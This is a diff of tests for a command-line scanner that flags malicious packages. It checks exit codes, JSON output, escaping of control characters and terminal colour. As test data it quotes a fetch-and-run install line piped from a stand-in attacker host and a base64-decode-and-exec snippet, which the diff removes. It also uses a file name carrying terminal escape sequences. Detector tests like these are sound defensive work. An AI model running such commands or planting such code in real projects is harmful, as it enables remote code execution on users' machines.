@@ -8,8 +8,6 @@ from scans.engine import load_builtin_rules, tree_hash, verdict_for_score
 
 from tests.cli.conftest import EVIL_NPM_PACKAGE, quarantine_ids, write_tree
 
-OBFUSCATED_EXEC = {"app.py": "import base64\nexec(base64.b64decode(s))\n"}
-
 
 def test_a_clean_project_exits_0_and_reports_every_phase(offline_sigil, clean_project):
     proc = offline_sigil("scan", clean_project)
@@ -30,15 +28,6 @@ def test_a_malicious_postinstall_exits_2_and_names_file_and_line(offline_sigil, 
     assert "curl https://evil.example.com/x.sh | sh" in proc.stdout
     assert "CRITICAL" in proc.stdout or "HIGH" in proc.stdout
     assert "sigil reject" in proc.stdout
-
-
-def test_a_medium_verdict_exits_1(offline_sigil, tmp_path):
-    project = write_tree(tmp_path / "medium", OBFUSCATED_EXEC)
-
-    proc, body = offline_sigil.json("scan", project, "--json")
-
-    assert body["verdict"] == "medium"
-    assert proc.returncode == 1
 
 
 def test_json_prints_a_scan_body_whose_phases_add_up_and_whose_verdict_matches(offline_sigil, evil_package):
@@ -123,7 +112,8 @@ def test_hostile_control_characters_are_printed_escaped(offline_sigil, tmp_path)
 
     proc = offline_sigil("scan", project)
 
-    assert proc.returncode == 1
+    assert proc.returncode in (1, 2)
+    assert "app\\u001b]0;owned\\u0007\\u001b[2J.py:2" in proc.stdout
     assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
     assert "\\u001b" in proc.stdout
 
@@ -149,3 +139,40 @@ def test_an_unknown_command_exits_3_not_2(offline_sigil):
 
     assert proc.returncode == 3
     assert "invalid choice" in proc.stderr
+
+
+def _run_on_a_terminal(sigil, *args, env=None):
+    """Run the CLI with stdout and stderr on a pseudo-terminal; return everything it wrote."""
+    import os
+    import pty
+    import subprocess
+    import sys
+
+    from tests.cli.conftest import REPO_ROOT
+
+    master, slave = pty.openpty()
+    run_env = {k: v for k, v in os.environ.items() if not k.startswith("SIGIL_") and k != "NO_COLOR"}
+    run_env.update(SIGIL_HOME=str(sigil.home), SIGIL_API_URL=sigil.api_url, **(env or {}))
+    proc = subprocess.Popen([sys.executable, "-m", "cli.main", *map(str, args)], cwd=REPO_ROOT, env=run_env,
+                            stdout=slave, stderr=slave, stdin=subprocess.DEVNULL)
+    os.close(slave)
+    chunks = []
+    while True:
+        try:
+            data = os.read(master, 65536)
+        except OSError:  # EIO: the child closed the terminal
+            break
+        if not data:
+            break
+        chunks.append(data)
+    os.close(master)
+    return proc.wait(), b"".join(chunks).decode("utf-8", "replace")
+
+
+def test_a_terminal_gets_colour_unless_no_color_is_set(offline_sigil, evil_package):
+    code, coloured = _run_on_a_terminal(offline_sigil, "scan", evil_package)
+    code_plain, plain = _run_on_a_terminal(offline_sigil, "scan", evil_package, env={"NO_COLOR": "1"})
+
+    assert code == code_plain == 2
+    assert "\x1b[1;31mCRITICAL\x1b[0m" in coloured or "\x1b[31;1mHIGH\x1b[0m" in coloured
+    assert "\x1b[1;31m" not in plain and "\x1b[31;1m" not in plain
